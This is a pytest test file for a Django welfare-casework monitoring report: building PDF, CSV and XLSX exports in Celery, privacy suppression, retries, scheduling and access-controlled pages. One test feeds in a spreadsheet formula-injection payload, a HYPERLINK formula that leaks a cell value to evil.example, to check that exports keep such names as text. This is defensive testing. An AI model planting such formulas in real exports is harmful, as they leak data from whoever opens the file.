"""The periodic monitor: building it in the background (PDF, CSV, XLSX), its archive and pages.

Exact figures come from test indicators registered for the test (the real indicators are checked
against hand-computed values in their own tests); the real registry is checked for structure.
Celery runs the task function in the test process; one test sends it through a real worker.
"""

import csv
import dataclasses
import datetime
import io
import os
import re
import time
from decimal import Decimal
from unittest import mock

import pytest
from celery.exceptions import SoftTimeLimitExceeded
from django.conf import settings
from django.db import DatabaseError, connection
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext, override
from kombu import Connection
from openpyxl import load_workbook
from pypdf import PdfReader

from casework.celery import app
from casework.models import AccessLog
from clients.models import ClientGroup
from monitoring import report, report_services, tasks
from monitoring.indicators import REGISTRY, Figure, Indicator, Row, Theme, Unit
from monitoring.indicators.base import TREND_QUARTERS
from monitoring.models import FailureReason, Report, ReportStatus, Target
from monitoring.periods import Period, PeriodKind
from tests.casework.test_celery import worker
from tests.clients.factories import (
    BenefitPeriodFactory,
    ClientFactory,
    ClientGroupAssignmentFactory,
)

pytestmark = pytest.mark.django_db

Q1_2025 = Period.quarter(2025, 1)
# The test indicators' figures, by the first day of the period.
CLIENTS = {
    datetime.date(2025, 1, 1): 40,
    datetime.date(2024, 10, 1): 32,
    datetime.date(2024, 1, 1): 20,
}
SHARES = {datetime.date(2025, 1, 1): Decimal("55.0"), datetime.date(2024, 10, 1): Decimal("50.0")}


def clients_on_benefit(period, scope):
    count = CLIENTS.get(period.start, 0)
    return Figure(count, count, rows=(Row("Groeien", count - 3, count - 3), Row("Zorgen", 3, 3)))


def share_with_plan(period, scope):
    share = SHARES.get(period.start)
    return Figure(share, 20 if share is not None else 0)


TEST_INDICATORS = {
    "test_clients": Indicator(
        code="test_clients",
        name="Test clients on benefit",
        theme=Theme.CASELOAD,
        unit=Unit.COUNT,
        numerator="Clients on benefit at the end of the period.",
        denominator="",
        population="Test clients.",
        period="The last day of the period.",
        compute=clients_on_benefit,
        breakdown="per klantgroep",
        higher_is_better=False,
    ),
    "test_plans": Indicator(
        code="test_plans",
        name="Test share with a plan",
        theme=Theme.KNOW_OUR_CLIENTS,
        unit=Unit.PERCENT,
        numerator="Clients with a current plan.",
        denominator="Clients in Matchen and Groeien.",
        population="Test clients.",
        period="The last day of the period.",
        compute=share_with_plan,
        higher_is_better=True,
    ),
}


@pytest.fixture
def test_indicators():
    with mock.patch.dict(REGISTRY, TEST_INDICATORS, clear=True):
        yield


@pytest.fixture
def named_client(team_a):
    """A client on benefit whose name must appear in no output."""
    client = ClientFactory(team=team_a, first_name="Zwanette", last_name="Quispelhuizen")
    BenefitPeriodFactory(client=client, start_date=datetime.date(2024, 3, 1))
    ClientGroupAssignmentFactory(
        client=client,
        group=ClientGroup.objects.get(code="zorgen"),
        start_date=datetime.date(2024, 3, 1),
    )
    return client


def built(period=Q1_2025):
    row = report_services.request_report(period=period, requested_by=None)
    tasks.build_report(row.pk)
    row.refresh_from_db()
    return row


def pdf_text(row):
    pages = PdfReader(io.BytesIO(bytes(row.pdf))).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


def csv_rows(row):
    return list(csv.reader(io.StringIO(bytes(row.csv).decode())))


def dutch(text):
    with override(settings.LANGUAGE_CODE):
        return gettext(text)


def label(period):
    with override(settings.LANGUAGE_CODE):
        return period.label


# Building ----------------------------------------------------------------------------------------


def test_the_task_builds_the_pdf_with_cover_summary_indicators_and_definitions(
    test_indicators, named_client
):
    Target.objects.create(indicator="test_plans", year=2025, value=Decimal("60.00"))
    row = built()

    assert row.status == ReportStatus.DONE
    assert row.built_at is not None and row.failure_reason == ""
    assert bytes(row.pdf).startswith(b"%PDF")
    text = pdf_text(row)
    for words in [
        dutch("Work and income monitor"),
        label(Q1_2025),
        dutch("Summary: what changed and why it matters"),
        "Test clients on benefit",
        "Test share with a plan",
        dutch("Appendix: definitions"),
        "Clients in Matchen and Groeien.",  # a denominator, in the appendix
        dutch("Budget"),
    ]:
        assert words in text, words
    # The figures themselves, as the tables print them in Dutch: 40 clients now, 32 before
    # (+8), and the share with a plan 55,0% against 50,0% and its target 60,0%.
    with override(settings.LANGUAGE_CODE):
        for figure in ["40", "32", "+8", "55,0%", "50,0%", "60,0%"]:
            assert figure in text, figure
    assert "Zwanette" not in text
    assert "Quispelhuizen" not in text
    assert named_client.bsn not in text


def test_small_cells_are_suppressed_in_the_csv_with_their_differences(test_indicators):
    """Zorgen is about 3 people; Groeien is hidden too, or Zorgen would be the total minus
    Groeien (the rule itself: test_suppression.py)."""
    Target.objects.create(indicator="test_plans", year=2025, value=Decimal("60.00"))
    rows = csv_rows(built())

    header = rows[0]
    assert header[5:] == [
        label(Q1_2025),
        label(Period.quarter(2024, 4)),
        dutch("Difference to previous period"),
        label(Period.quarter(2024, 1)),
        dutch("Target %(year)s") % {"year": 2025},
    ]
    lines = {(r[1], r[3]): r[5:] for r in rows[1:]}
    assert lines[("test_clients", dutch("Total"))] == ["40", "32", "8", "20", ""]
    # Zorgen is small ("< 5"); Groeien and the differences with a hidden side are hidden ("x").
    assert lines[("test_clients", "Groeien")] == ["x", "x", "x", "x", ""]
    assert lines[("test_clients", "Zorgen")] == ["< 5", "< 5", "x", "< 5", ""]
    assert lines[("test_plans", dutch("Total"))] == ["55.0", "50.0", "5.0", "", "60.00"]
    assert {r[1] for r in rows[1:]} == {"test_clients", "test_plans"}


def test_the_xlsx_has_the_same_figures_as_numbers(test_indicators):
    row = built()
    workbook = load_workbook(io.BytesIO(bytes(row.xlsx)))
    figures, definitions, about = workbook.worksheets
    values = [[cell.value for cell in line] for line in figures.iter_rows()]
    lines = {(r[1], r[3]): r[5:] for r in values[1:]}
    assert lines[("test_clients", dutch("Total"))][:4] == [40, 32, 8, 20]
    assert lines[("test_clients", "Zorgen")][:4] == ["< 5", "< 5", "x", "< 5"]
    assert lines[("test_plans", dutch("Total"))][:3] == [Decimal("55.0"), Decimal("50.0"), 5]
    codes = [line[0].value for line in definitions.iter_rows(min_row=2)]
    assert codes == ["test_clients", "test_plans"]
    assert about["A1"].value == dutch("Work and income monitor")


def test_the_summary_names_the_largest_changes_and_the_missed_targets(test_indicators):
    Target.objects.create(indicator="test_plans", year=2025, value=Decimal("60.00"))
    with override("en"):
        monitor = report.collect(Q1_2025, made_at=timezone.now())
    summary = monitor.summary
    assert summary.introduction.startswith("This monitor covers Q1 2025, from 1 January 2025")
    # Clients rose by 25%, the share by 10%: the larger change comes first.
    assert summary.changes[0].startswith(
        "Test clients on benefit rose from 32 in Q4 2024 to 40. That is a deterioration."
    )
    assert summary.changes[1].startswith(
        "Test share with a plan rose from 50.0% in Q4 2024 to 55.0%. That is an improvement."
    )
    assert summary.targets == (
        "0 of the 1 target that applies to this period was met.",
        "Test share with a plan is 55.0%, against a target of 60.0% for 2025.",
    )
    assert "“x”" in summary.privacy and "5 people" in summary.privacy


def test_the_summary_leaves_out_the_budget(test_indicators):
    """Budget amounts add up from 1 January, so they "fall" from Q4 to Q1 in every monitor."""
    spent = {datetime.date(2025, 1, 1): 1000, datetime.date(2024, 10, 1): 90000}
    budget = dataclasses.replace(
        TEST_INDICATORS["test_clients"],
        code="test_spent",
        name="Test amount spent",
        theme=Theme.BUDGET,
        unit=Unit.EURO,
        compute=lambda period, scope: Figure(spent.get(period.start, 0)),
    )
    with override("en"), mock.patch.dict(REGISTRY, {"test_spent": budget}):
        monitor = report.collect(Q1_2025, made_at=timezone.now())
    (spent_result,) = next(s for s in monitor.sections if s.theme == Theme.BUDGET).results
    assert spent_result.headline.relative_change is not None  # a change of 99%, the largest
    assert not any("Test amount spent" in sentence for sentence in monitor.summary.changes)
    assert monitor.summary.changes[0].startswith("Test clients on benefit rose")


def test_the_trend_chart_stops_at_the_end_of_the_period(test_indicators):
    """A monitor of January to May: its chart's last quarter is April and May, not all of Q2."""
    asked: list[Period] = []

    def recording(period, scope):
        asked.append(period)
        return clients_on_benefit(period, scope)

    indicator = dataclasses.replace(TEST_INDICATORS["test_clients"], compute=recording)
    with mock.patch.dict(REGISTRY, {"test_clients": indicator}, clear=True):
        period = Period(datetime.date(2025, 1, 1), datetime.date(2025, 5, 31))
        monitor = report.collect(period, made_at=timezone.now())
    assert max(p.end for p in asked) == period.end
    assert Period(datetime.date(2025, 4, 1), period.end, PeriodKind.QUARTER) in asked
    assert Period.quarter(2025, 2) not in asked
    assert len([p for p in asked if p.kind == PeriodKind.QUARTER]) == TREND_QUARTERS
    (result,) = monitor.sections[0].results
    assert label(Period.quarter(2023, 3)) in result.chart  # the first of eight quarters


def test_a_yearly_target_of_a_count_is_judged_in_the_yearly_monitor_only(test_indicators):
    Target.objects.create(indicator="test_clients", year=2025, value=Decimal("10"))
    Target.objects.create(indicator="test_clients", year=2024, value=Decimal("10"))
    quarter = report.collect(Q1_2025, made_at=timezone.now())
    (clients,) = quarter.sections[0].results
    assert clients.target is not None and clients.target_met is None
    year = report.collect(Period.year(2024), made_at=timezone.now())
    (clients,) = year.sections[0].results
    assert year.year_earlier is None
    assert clients.headline.current.number == 20  # 2024 starts on 1 January, see CLIENTS
    assert clients.target_met is False  # lower is better, and 20 is above 10


def test_every_real_indicator_is_in_the_monitor(named_client):
    row = built()
    assert row.status == ReportStatus.DONE, row.failure_reason
    text = pdf_text(row)
    with override(settings.LANGUAGE_CODE):
        for indicator in REGISTRY.values():
            assert " ".join(str(indicator.name).split()) in text, indicator.code
    codes = {r[1] for r in csv_rows(row)[1:]}
    assert set(REGISTRY) <= codes
    assert "Zwanette" not in text and "Quispelhuizen" not in text
    assert b"Quispelhuizen" not in bytes(row.csv)


@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "@SUM(1+1)"])
def test_names_that_look_like_formulas_stay_text(name):
    """A klantgroep's name is typed in by the application manager; a spreadsheet must show it,
    not run it."""
    ClientGroup.objects.filter(code="zorgen").update(name=name)
    with mock.patch.dict(REGISTRY, {"caseload": REGISTRY["caseload"]}, clear=True):
        monitor = report.collect(Q1_2025, made_at=timezone.now())
    labels = [r[3] for r in csv.reader(io.StringIO(report.render_csv(monitor).decode()))]
    assert "'" + name in labels
    assert name not in labels

    figures = load_workbook(io.BytesIO(report.render_xlsx(monitor))).worksheets[0]
    (cell,) = [line[3] for line in figures.iter_rows() if line[3].value == name]
    assert cell.data_type == "s"  # text, not a formula
    numbers = [line[5] for line in figures.iter_rows(min_row=2)]
    assert all(number.data_type == "n" for number in numbers)  # numbers are still numbers


# Idempotence and failure -------------------------------------------------------------------------


def test_a_second_run_of_a_done_monitor_changes_nothing(test_indicators):
    row = built()
    first = row.built_at
    tasks.build_report(row.pk)
    again = report_services.request_report(period=Q1_2025, requested_by=None)
    assert again.pk == row.pk
    assert Report.objects.count() == 1
    row.refresh_from_db()
    assert row.built_at == first


def test_a_custom_period_that_is_a_quarter_is_that_quarter(test_indicators):
    row = report_services.request_report(
        period=Period(datetime.date(2025, 1, 1), datetime.date(2025, 3, 31)), requested_by=None
    )
    assert row.period == Q1_2025
    assert report_services.request_report(period=Q1_2025, requested_by=None).pk == row.pk


def test_rebuilding_replaces_the_files_of_the_one_archive_entry(test_indicators, policy_officer):
    row = built()
    first = row.built_at
    CLIENTS[datetime.date(2025, 1, 1)] = 44
    try:
        assert report_services.rebuild_report(report_row=row, requested_by=policy_officer)
        row.refresh_from_db()
        assert row.status == ReportStatus.QUEUED
        assert row.built_at == first  # the old files stay downloadable meanwhile
        tasks.build_report(row.pk)
    finally:
        CLIENTS[datetime.date(2025, 1, 1)] = 40
    row.refresh_from_db()
    assert Report.objects.count() == 1
    assert row.status == ReportStatus.DONE and row.built_at > first
    assert row.requested_by == policy_officer
    lines = {(r[1], r[3]): r[5] for r in csv_rows(row)[1:]}
    assert lines[("test_clients", dutch("Total"))] == "44"


def test_a_monitor_left_running_by_a_crashed_worker_is_built_again(test_indicators):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    Report.objects.filter(pk=row.pk).update(status=ReportStatus.RUNNING, started_at=timezone.now())
    tasks.build_report(row.pk)
    row.refresh_from_db()
    assert row.status == ReportStatus.DONE


def test_a_monitor_being_built_by_another_worker_is_left_to_it(test_indicators):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    other = connection.get_new_connection(connection.get_connection_params())
    try:
        other.autocommit = True
        other.execute("SELECT pg_advisory_lock(%s, %s)", [report_services.LOCK_NAMESPACE, row.pk])
        tasks.build_report(row.pk)
        row.refresh_from_db()
        assert row.status == ReportStatus.QUEUED
        other.execute("SELECT pg_advisory_unlock(%s, %s)", [report_services.LOCK_NAMESPACE, row.pk])
    finally:
        other.close()
    tasks.build_report(row.pk)
    row.refresh_from_db()
    assert row.status == ReportStatus.DONE


def test_a_failed_attempt_is_recorded_and_retried(test_indicators):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    with (
        mock.patch.object(report, "collect", side_effect=DatabaseError("gone")),
        pytest.raises(DatabaseError),
    ):
        tasks.build_report(row.pk)  # called directly, the retry raises the error
    row.refresh_from_db()
    assert (row.status, row.failure_reason) == (ReportStatus.QUEUED, FailureReason.DATABASE)


def test_after_the_last_retry_the_monitor_is_failed_and_earlier_files_are_kept(test_indicators):
    row = built()
    report_services.rebuild_report(report_row=row, requested_by=None)
    with mock.patch.object(report, "collect", side_effect=RuntimeError("bug")) as collect:
        tasks.build_report.apply(args=[row.pk])  # eager: the retries run at once
    assert collect.call_count == 3
    row.refresh_from_db()
    assert (row.status, row.failure_reason) == (ReportStatus.FAILED, FailureReason.ERROR)
    assert bytes(row.pdf).startswith(b"%PDF") and row.built_at is not None
    # Asking for it again queues it again.
    assert report_services.request_report(period=Q1_2025, requested_by=None).status == "queued"


def test_a_build_that_runs_out_of_time_is_failed_without_retrying(test_indicators):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    with mock.patch.object(report, "collect", side_effect=SoftTimeLimitExceeded()) as collect:
        tasks.build_report.apply(args=[row.pk])  # eager: a retry would run at once
    assert collect.call_count == 1
    row.refresh_from_db()
    assert (row.status, row.failure_reason) == (ReportStatus.FAILED, FailureReason.TIMEOUT)


# Beat ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("today", "periods"),
    [
        (datetime.date(2025, 2, 10), [Period.quarter(2024, 4), Period.year(2024)]),
        (datetime.date(2025, 1, 1), [Period.quarter(2024, 4), Period.year(2024)]),
        (datetime.date(2025, 4, 1), [Period.quarter(2025, 1)]),
        (datetime.date(2025, 12, 31), [Period.quarter(2025, 3)]),
    ],
)
def test_the_due_monitors_are_the_last_quarter_and_in_q1_the_last_year(today, periods):
    assert report_services.due_periods(today=today) == periods


def test_beat_asks_for_the_due_monitors_once(
    test_indicators, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(tasks.timezone, "localdate", lambda: datetime.date(2025, 2, 10))
    with django_capture_on_commit_callbacks() as enqueued:
        tasks.build_due_reports()
    assert len(enqueued) == 2
    assert {(r.period, r.requested_by) for r in Report.objects.all()} == {
        (Period.quarter(2024, 4), None),
        (Period.year(2024), None),
    }
    for row in Report.objects.all():
        tasks.build_report(row.pk)
    with django_capture_on_commit_callbacks() as enqueued:
        tasks.build_due_reports()
    assert enqueued == []  # both are done
    assert Report.objects.count() == 2


def test_beat_runs_the_job_on_the_configured_schedule():
    entry = settings.CELERY_BEAT_SCHEDULE["build-due-monitors"]
    assert entry["task"] == "monitoring.tasks.build_due_reports"
    assert entry["task"] in app.tasks
    assert str(entry["schedule"]) == "<crontab: 30 5 * * * (m/h/dM/MY/d)>"


# Pages -------------------------------------------------------------------------------------------


def test_roles(client, consultant_a, manager_a, policy_officer, application_manager):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    Report.objects.filter(pk=row.pk).update(status=ReportStatus.DONE, pdf=b"%PDF-1.7")
    read = [
        reverse("monitor-list"),
        reverse("monitor-detail", args=[row.pk]),
        reverse("monitor-status", args=[row.pk]),
        reverse("monitor-download", args=[row.pk, "pdf"]),
    ]
    write = [reverse("monitor-request"), reverse("monitor-rebuild", args=[row.pk])]
    expectations = [
        (consultant_a, 403, 403),
        (manager_a, 200, 403),
        (application_manager, 200, 403),
        (policy_officer, 200, None),
    ]
    for user, reading, writing in expectations:
        client.force_login(user)
        for url in read:
            assert client.get(url).status_code == reading, (user, url)
        if writing:
            for url in write:
                assert client.post(url).status_code == writing, (user, url)
    assert AccessLog.objects.count() == 0


def test_only_policy_staff_see_the_request_form(client, manager_a, policy_officer):
    client.force_login(manager_a)
    assert client.get(reverse("monitor-list")).context["form"] is None
    client.force_login(policy_officer)
    response = client.get(reverse("monitor-list"))
    assert 'action="/monitor/aanvragen/"' in response.text
    assert len(re.findall(r"<h1[ >]", response.text)) == 1


def test_the_archive_costs_the_same_queries_for_many_monitors(
    client, policy_officer, django_assert_num_queries
):
    client.force_login(policy_officer)

    def archive_queries():
        # session, user (with unread notifications: casework.backends), count, page
        with django_assert_num_queries(4) as context:
            assert client.get(reverse("monitor-list")).status_code == 200
        return context

    def yearly(year):
        Report.objects.create(
            period_start=datetime.date(year, 1, 1),
            period_end=datetime.date(year, 12, 31),
            period_kind="year",
        )

    yearly(2024)
    archive_queries()
    for year in range(2014, 2024):
        yearly(year)
    context = archive_queries()
    page_query = next(q["sql"] for q in context.captured_queries if "ORDER BY" in q["sql"])
    assert '"pdf"' not in page_query  # the files are not read for the list


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"kind": "custom", "start": "2025-03-01", "end": "2025-02-01"}, "end"),
        ({"kind": "custom", "start": "2025-03-01"}, "end"),
        ({"kind": "quarter", "year": "2025"}, "quarter"),
        ({"kind": "year"}, "year"),
        ({"kind": "year", "year": "1999"}, "year"),
        ({"kind": "year", "year": "10000"}, "year"),
        ({"kind": "quarter", "year": "10000", "quarter": "4"}, "year"),
        # Other periods are whole calendar months.
        ({"kind": "custom", "start": "2025-01-02", "end": "2025-03-31"}, "start"),
        ({"kind": "custom", "start": "2025-01-01", "end": "2025-03-30"}, "end"),
        ({"kind": "custom", "start": "2024-02-01", "end": "2024-02-28"}, "end"),  # a leap year
    ],
)
def test_the_request_form_refuses_an_incomplete_or_reversed_period(
    client, policy_officer, data, field
):
    client.force_login(policy_officer)
    response = client.post(reverse("monitor-request"), data)
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert 'id="error-summary"' in response.text
    assert f'id="id_{field}-errors"' in response.text  # next to the field
    assert not Report.objects.exists()


def test_another_period_of_whole_months_is_requested(
    client, policy_officer, django_capture_on_commit_callbacks
):
    client.force_login(policy_officer)
    with django_capture_on_commit_callbacks():
        response = client.post(
            reverse("monitor-request"),
            {"kind": "custom", "start": "2024-02-01", "end": "2024-05-31"},
        )
    assert response.status_code == 302
    row = Report.objects.get()
    assert (row.period_start, row.period_end, row.period_kind) == (
        datetime.date(2024, 2, 1),
        datetime.date(2024, 5, 31),
        "custom",
    )


def test_the_year_field_stops_at_this_year(client, policy_officer):
    client.force_login(policy_officer)
    html = client.get(reverse("monitor-list")).text
    assert f'max="{timezone.localdate().year}"' in html


@pytest.mark.parametrize("kind", ["quarter", "year", "custom"])
def test_the_request_form_refuses_a_period_that_has_not_ended(client, policy_officer, kind):
    today = timezone.localdate()
    data = {
        "kind": kind,
        "year": today.year,
        "quarter": (today.month - 1) // 3 + 1,
        "start": (today - datetime.timedelta(days=10)).isoformat(),
        "end": today.isoformat(),
    }
    client.force_login(policy_officer)
    response = client.post(reverse("monitor-request"), data)
    assert response.status_code == 200
    assert response.context["form"].errors
    assert not Report.objects.exists()


def test_a_requested_monitor_is_queued_and_its_page_polls_its_status(
    client, policy_officer, django_capture_on_commit_callbacks
):
    client.force_login(policy_officer)
    with django_capture_on_commit_callbacks() as enqueued:
        response = client.post(
            reverse("monitor-request"), {"kind": "quarter", "year": "2025", "quarter": "1"}
        )
    row = Report.objects.get()
    assert (row.period, row.status, row.requested_by) == (Q1_2025, "queued", policy_officer)
    assert len(enqueued) == 1
    assert response.url == reverse("monitor-detail", args=[row.pk])

    page = client.get(response.url).text
    assert '<div role="status"' in page
    assert 'id="monitor-downloads"' in page
    assert 'hx-trigger="every 2s"' in page
    assert f'hx-get="{reverse("monitor-status", args=[row.pk])}?status=queued"' in page
    assert len(re.findall(r"<h1[ >]", page)) == 1


def test_the_status_partial_answers_only_changes_and_stops_when_done(client, policy_officer):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    client.force_login(policy_officer)
    url = reverse("monitor-status", args=[row.pk])
    htmx = {"HTTP_HX_REQUEST": "true"}

    assert client.get(f"{url}?status=queued", **htmx).status_code == 204
    Report.objects.filter(pk=row.pk).update(status=ReportStatus.RUNNING, started_at=timezone.now())
    running = client.get(f"{url}?status=queued", **htmx)
    assert running.status_code == 200
    assert 'data-status="running"' in running.text
    assert 'hx-trigger="every 2s"' in running.text
    assert "?status=running" in running.text

    Report.objects.filter(pk=row.pk).update(
        status=ReportStatus.DONE, built_at=timezone.now(), finished_at=timezone.now()
    )
    done = client.get(f"{url}?status=running", **htmx)
    assert done.status_code == 286  # htmx stops polling
    assert "hx-trigger" not in done.text
    # The downloads are outside the live region: they come along out of band.
    downloads = done.text.split('<div id="monitor-downloads" hx-swap-oob="true">', 1)[1]
    for file_format in ("pdf", "csv", "xlsx"):
        assert reverse("monitor-download", args=[row.pk, file_format]) in downloads


def test_the_live_region_holds_only_the_status(client, policy_officer):
    """Screen readers announce what changes in role="status": the status line, not the
    download links."""
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    Report.objects.filter(pk=row.pk).update(
        status=ReportStatus.DONE, built_at=timezone.now(), finished_at=timezone.now()
    )
    client.force_login(policy_officer)
    page = client.get(reverse("monitor-detail", args=[row.pk])).text
    region = page.split('<div role="status"', 1)[1].split('<div id="monitor-downloads"', 1)[0]
    assert 'class="status-line"' in region
    assert "monitor-download" not in region.replace("monitor-downloads", "")
    assert "<h2" not in region
    downloads = page.split('<div id="monitor-downloads"', 1)[1]
    assert reverse("monitor-download", args=[row.pk, "pdf"]) in downloads


def test_a_failed_monitor_shows_its_reason_and_can_be_rebuilt(
    client, policy_officer, django_capture_on_commit_callbacks
):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    report_services.record_failure(report_id=row.pk, reason=FailureReason.TIMEOUT, final=True)
    client.force_login(policy_officer)
    page = client.get(reverse("monitor-detail", args=[row.pk])).text
    assert 'data-status="failed"' in page
    assert "hx-trigger" not in page
    assert f'action="{reverse("monitor-rebuild", args=[row.pk])}"' in page
    with django_capture_on_commit_callbacks() as enqueued:
        client.post(reverse("monitor-rebuild", args=[row.pk]))
    row.refresh_from_db()
    assert (row.status, row.failure_reason, len(enqueued)) == ("queued", "", 1)
    # A second click while it is queued does not queue it twice.
    with django_capture_on_commit_callbacks() as enqueued:
        client.post(reverse("monitor-rebuild", args=[row.pk]))
    assert enqueued == []


def test_the_downloads_are_the_built_files(client, manager_a, test_indicators):
    row = built()
    client.force_login(manager_a)
    expected = {
        "pdf": ("application/pdf", bytes(row.pdf)),
        "csv": ("text/csv; charset=utf-8", bytes(row.csv)),
        "xlsx": (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            bytes(row.xlsx),
        ),
    }
    for file_format, (content_type, content) in expected.items():
        response = client.get(reverse("monitor-download", args=[row.pk, file_format]))
        assert response["Content-Type"] == content_type
        assert response.content == content
        assert f'filename="monitor-2025-q1.{file_format}"' in response["Content-Disposition"]
    assert client.get(reverse("monitor-download", args=[row.pk, "docx"])).status_code == 404
    assert AccessLog.objects.count() == 0


def test_a_monitor_that_was_never_built_has_no_downloads(client, policy_officer):
    row = report_services.request_report(period=Q1_2025, requested_by=None)
    client.force_login(policy_officer)
    assert client.get(reverse("monitor-download", args=[row.pk, "pdf"])).status_code == 404


# Targets in /beheer/ -----------------------------------------------------------------------------


def test_the_application_manager_sets_targets_of_registered_indicators(
    client, application_manager, policy_officer, test_indicators
):
    client.force_login(application_manager)
    url = reverse("admin:monitoring_target_add")
    assert 'value="test_plans"' in client.get(url).text
    assert client.post(url, {"indicator": "unknown", "year": 2025, "value": "1"}).status_code == 200
    assert (
        client.post(url, {"indicator": "test_plans", "year": 2025, "value": "120"}).status_code
        == 200
    )
    assert not Target.objects.exists()
    assert (
        client.post(url, {"indicator": "test_plans", "year": 2025, "value": "60"}).status_code
        == 302
    )
    assert Target.objects.get().value == Decimal("60.00")
    client.force_login(policy_officer)
    assert client.get(url).status_code in (302, 403)


# A real worker -----------------------------------------------------------------------------------


@pytest.mark.redis
@pytest.mark.django_db(transaction=True)
def test_a_monitor_is_built_by_a_real_worker_over_redis():
    redis_url = os.environ["CASEWORK_TEST_REDIS_URL"]
    row = Report.objects.create(
        period_start=Q1_2025.start, period_end=Q1_2025.end, period_kind="quarter"
    )
    with worker({"CELERY_BROKER_URL": redis_url}):
        with Connection(redis_url) as broker:
            tasks.build_report.apply_async(args=[row.pk], connection=broker)
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:
            row.refresh_from_db()
            if row.status in (ReportStatus.DONE, ReportStatus.FAILED):
                break
            time.sleep(0.5)
    assert row.status == ReportStatus.DONE, row.failure_reason
    assert bytes(row.pdf).startswith(b"%PDF")
